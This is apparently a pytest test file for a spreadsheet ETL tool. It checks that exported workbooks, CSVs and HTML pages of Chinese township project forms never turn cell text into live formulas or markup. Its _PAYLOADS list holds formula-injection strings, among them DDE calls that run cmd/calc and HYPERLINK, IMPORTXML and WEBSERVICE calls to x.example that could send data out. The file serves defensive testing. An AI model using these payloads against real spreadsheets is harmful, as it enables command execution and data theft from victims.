"""Ten thousand texts of a township that would be formulas: none is one in anything that we write."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from random import Random
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest

from pioneer_etl.cli.main import main
from pioneer_etl.workspace import Workspace, init_workspace, open_workspace

pytestmark = pytest.mark.slow

_BEFORE = ("", "", "", " ", "  ", "　", "\u00a0", "\ufeff", "\u200b", "\t", "\r", "\n", "'", '"', ";", ",", "\r\n")
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "@=", "==", "-+", "\t=", "\r=", "\n=")
_PAYLOADS = (
    "cmd|' /C calc'!A0",
    "1",
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://x.example/?"&A1,"看这里")',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML("http://x.example","//a")',
    "x",
    "A1",
    "WEBSERVICE(A1)",
    "<b>x</b>&amp;",
    "{{7*7}}",
    "[1]Sheet1!$A$1",
    "宜一村*2",
)
_INVISIBLE = " \u00a0　\ufeff\u200b\u200c\u200d\u2060\u00ad"
_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?\Z")
_ROWS = 3400


def hostile(count: int) -> list[str]:
    """So many different ones."""
    dice = Random(20)
    made: dict[str, None] = {}
    while len(made) < count:
        tail = "".join(dice.choice("甲乙12,;|'\"\t\n ()=+-@!") for _ in range(dice.randint(0, 6)))
        made[dice.choice(_BEFORE) + dice.choice(_SIGNS) + dice.choice(_PAYLOADS) + tail] = None
    return list(made)


STRINGS = hostile(3 * _ROWS)


def write_form(path: Path, township: str, numbers_too: bool) -> None:
    """A form of projects: texts everywhere, also where numbers should be."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["招商引资项目情况表"])
    sheet.append([f"填报单位：{township}", *[None] * 3, "报告期：2004年度"])
    sheet.append(["序号", "村", "项目名称", "投资额\n（万元）", "投资方"])
    some = iter(STRINGS)
    for n in range(1, _ROWS + 1):
        money: Any = next(some) if numbers_too else n
        for column, value in enumerate(
            (n, "宜一村" if township == "宜山镇" else "灵江村", next(some), money, next(some)), 1
        ):
            cell = sheet.cell(n + 3, column)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    path.parent.mkdir(exist_ok=True)
    book.save(path)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    root = init_workspace(tmp_path_factory.mktemp("hostile") / "county")
    write_form(root / "inbox" / "宜山镇.xlsx", "宜山镇", numbers_too=False)
    write_form(root / "inbox" / "灵溪镇.xlsx", "灵溪镇", numbers_too=True)
    opened = open_workspace(root)
    report = opened.ingest([root / "inbox"])
    assert {each.file: len(each.submissions) for each in report.files} == {"宜山镇.xlsx": 1, "灵溪镇.xlsx": 1}
    return opened


def formulas(path: Path, sheets: slice = slice(None)) -> list[str]:
    """Every formula of a workbook, and, of the sheets that are ours, every text that becomes one when it is edited."""
    found = []
    with ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                found += re.findall(r"<f[ >].*?</f>|<f[^>]*/>", archive.read(name).decode(), re.DOTALL)
            assert "externalLink" not in name
    for sheet in openpyxl.load_workbook(path).worksheets[sheets]:
        for row in sheet.iter_rows():
            for cell in row:
                unquoted = isinstance(cell.value, str) and not cell.quotePrefix
                if unquoted and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    found.append(f"{cell.coordinate}: {cell.value}")
    return found


def texts(path: Path) -> set[str]:
    return {
        str(cell.value)
        for sheet in openpyxl.load_workbook(path)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    }


def csv_formulas(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet might calculate; plain numbers are what they are."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    bare = [(cell, cell.lstrip(_INVISIBLE)) for cell in cells]
    return [cell for cell, rest in bare if rest[:1] in tuple("=+-@＝＋－＠\t\r\n") and rest and not _NUMBER.match(cell)]


class Page(HTMLParser):
    """The elements and the texts of a page, and the cells that a spreadsheet would calculate."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.texts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_no_summary_has_one(workspace: Workspace, tmp_path: Path) -> None:
    workspace.write_summaries(["project_list"], tmp_path / "a.xlsx")
    assert formulas(tmp_path / "a.xlsx") == []
    kept = texts(tmp_path / "a.xlsx")
    assert sum(each.strip() in kept or each in kept for each in STRINGS[: 2 * _ROWS]) > 1.5 * _ROWS
    workspace.write_summaries(["project_list"], tmp_path / "a.csv")
    assert csv_formulas((tmp_path / "a.csv").read_text(encoding="utf-8-sig")) == []
    workspace.write_summaries(["project_list"], tmp_path / "a.html")
    page = (tmp_path / "a.html").read_text(encoding="utf-8")
    parsed = Page(page)
    assert not parsed.elements & {"b", "script", "a", "img", "x"}
    assert sum("cmd|" in each for each in parsed.texts) > 100
    # A spreadsheet that opens the page takes the cells of its table for texts.
    assert 'mso-number-format:"\\@"' in page


def test_no_answer_to_a_query_has_one(workspace: Workspace, tmp_path: Path) -> None:
    answer = workspace.sql("select project_name, investor, project_name || 'x' as \"=1+1\" from project")
    assert len(answer.rows()) >= _ROWS
    answer.write(tmp_path / "q.xlsx")
    answer.write(tmp_path / "q.csv")
    assert formulas(tmp_path / "q.xlsx") == []
    assert csv_formulas((tmp_path / "q.csv").read_text(encoding="utf-8-sig")) == []


def test_no_returned_workbook_has_one(workspace: Workspace, tmp_path: Path) -> None:
    returned = workspace.return_workbooks(["灵溪镇"], tmp_path, severity="note")
    (path,) = [each.path for each in returned if each.path is not None]
    assert len(returned[0].findings) >= _ROWS
    assert formulas(path, slice(1)) == []  # the second sheet is the township's own
    assert sum("cmd|" in each for each in texts(path)) > 100


@pytest.mark.parametrize(
    "command",
    [
        ("findings", "--format", "csv"),
        ("trace", "project", "--row", "宜山镇", "--column", "investment", "--format", "csv"),
    ],
)
def test_no_csv_of_the_command_line_has_one(
    workspace: Workspace, capsys: pytest.CaptureFixture[str], command: tuple[str, ...]
) -> None:
    main(["-w", str(workspace.root), *command])
    out = capsys.readouterr().out
    assert len(out.splitlines()) > _ROWS
    assert csv_formulas(out) == []


def test_an_inspected_sheet_is_text_on_its_page(workspace: Workspace, tmp_path: Path) -> None:
    assert main(
        [
            "-w",
            str(workspace.root),
            "inspect",
            str(workspace.root / "inbox" / "宜山镇.xlsx"),
            "-o",
            str(tmp_path / "i.html"),
        ]
    ) in (0, 1)
    parsed = Page((tmp_path / "i.html").read_text(encoding="utf-8"))
    assert not parsed.elements & {"x", "img", "iframe"}
    assert not {each for each in parsed.attributes if each.startswith("on")}
